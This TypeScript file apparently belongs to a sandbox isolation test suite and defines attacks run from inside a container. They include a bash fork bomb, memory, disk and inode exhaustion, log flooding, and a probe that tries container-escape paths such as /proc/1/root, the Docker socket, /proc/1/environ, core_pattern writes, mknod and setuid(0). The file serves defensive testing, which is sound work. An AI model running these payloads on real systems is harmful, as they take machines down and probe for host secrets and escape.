/** Attacks on the machine: processors, memory, disk, logs; and a look at what can be reached. */
import { spawn, spawnSync } from 'node:child_process';
import {
  closeSync,
  existsSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  utimesSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { connect } from 'node:net';
import { networkInterfaces } from 'node:os';
import { setImmediate as breathe, setTimeout as delay } from 'node:timers/promises';
import { type Attacker, attempt, files, type Task } from './attacker.ts';

type Attack = (attacker: Attacker, task: Task) => void | Promise<void>;

export const RESOURCE_ATTACKS: Record<string, Attack> = {
  'fork-bomb': () => {
    spawn('bash', ['-c', 'bomb() { bomb | bomb & }; while :; do bomb; done'], { stdio: 'ignore' }).on('error', () =>
      process.exit(1),
    );
  },

  'eats-memory': async () => {
    const held: Buffer[] = [];
    for (;;) {
      held.push(Buffer.alloc(32 * 2 ** 20, held.length + 1));
      await delay(1);
    }
  },

  'fills-bytes': async (_attacker, { args }) => {
    const block = Buffer.alloc(4 * 2 ** 20, 1);
    for (let file = 0; file < 30; file++) {
      const fd = openSync(`${args.folder}/fill-${file}`, 'w');
      for (let part = 0; part < 16; part++) writeSync(fd, block);
      closeSync(fd);
      await delay(1);
    }
  },

  'fills-inodes': async () => {
    for (let folder = 0; folder < 220; folder++) {
      mkdirSync(`${files.out}/many/${folder}`, { recursive: true });
      for (let file = 0; file < 100; file++) closeSync(openSync(`${files.out}/many/${folder}/${file}`, 'w'));
      await delay(1);
    }
  },

  'deep-folders': () => {
    // Step by step, because no path is long enough to name the innermost.
    for (let depth = 0; depth < 400; depth++) {
      mkdirSync('d'.repeat(100));
      process.chdir('d'.repeat(100));
    }
  },

  'ignores-sigterm': (attacker) => attacker.say('not listening'),

  'floods-log': async () => {
    const line = `${'log line '.repeat(12)}\n`;
    for (;;) {
      // 10,000 lines each second.
      process.stdout.write(line.repeat(100));
      await delay(10);
    }
  },

  'rings-without-end': async (_attacker, { args }) => {
    const bell = openSync(files.outDoorbell, 'w');
    for (let at = 0; ; at++) {
      utimesSync(files.outDoorbell, at, at);
      // Events of one kind become one while nobody has read them; of two kinds by turns, none does.
      if (args.by === 'turns') writeSync(bell, 'x', 0);
      if (at % 5_000 === 0) await breathe();
    }
  },

  'looks-around': async (attacker, { args }) => {
    const { gateway = '', port = '0', precious = '' } = args;
    const seen = {
      precious: attempt(() => readFileSync(precious, 'utf8')),
      preciousThroughInit: attempt(() => readFileSync(`/proc/1/root${precious}`, 'utf8')),
      dockerSocket: ['/var/run/docker.sock', '/run/docker.sock'].filter((path) => existsSync(path)),
      processes: readdirSync('/proc').filter((name) => /^\d+$/.test(name)).length,
      interfaces: Object.keys(networkInterfaces()),
      network: await tryConnect(gateway, Number(port)),
      loopback: await tryConnect('127.0.0.1', Number(port)),
      rootfs: attempt(() => writeFileSync('/app/x', 'x')),
      mounts: readFileSync('/proc/self/mounts', 'utf8')
        .split('\n')
        .filter((line) => line.includes('/workspace'))
        .map((line) => line.split(' ')[1])
        .sort(),
      devices: attempt(() => spawnSync('mknod', ['/tmp/sda', 'b', '8', '0']).status),
      setuid: attempt(() => process.setuid?.(0)),
      otherSessions: attempt(() => readdirSync('/workspace/..').join(',')),
      environment: Object.keys(process.env),
      initEnvironment: attempt(() => readFileSync('/proc/1/environ', 'latin1').replaceAll('\0', ' ')),
      kernelMemory: attempt(() => openSync('/proc/kcore', 'r')),
      sysctl: attempt(() => writeFileSync('/proc/sys/kernel/core_pattern', '|/x')),
      session: readFileSync(files.session, 'utf8'),
    };
    attacker.say(JSON.stringify(seen));
  },
};

function tryConnect(host: string, port: number): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect({ host, port, timeout: 1_500 });
    socket.once('connect', () => resolve('connected'));
    socket.once('timeout', () => resolve('timeout'));
    socket.once('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message));
  });
}
